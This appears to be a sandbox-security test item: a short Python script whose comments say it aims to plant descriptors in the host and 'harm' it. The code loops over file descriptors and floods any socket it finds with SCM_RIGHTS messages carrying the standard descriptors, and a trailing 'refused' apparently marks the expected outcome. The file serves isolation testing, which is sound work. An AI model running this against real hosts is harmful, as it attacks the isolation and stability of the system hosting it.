# wants: descriptors of its own in the host
# success: the host is harmed
# variants: kernel
import array
import os
import socket

for number in range(3, 300):
    try:
        connection = socket.socket(fileno=number)
        try:
            rights = array.array("i", [0, 1, 2] * 80)
            connection.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        finally:
            connection.detach()
    except OSError:
        pass
"refused"
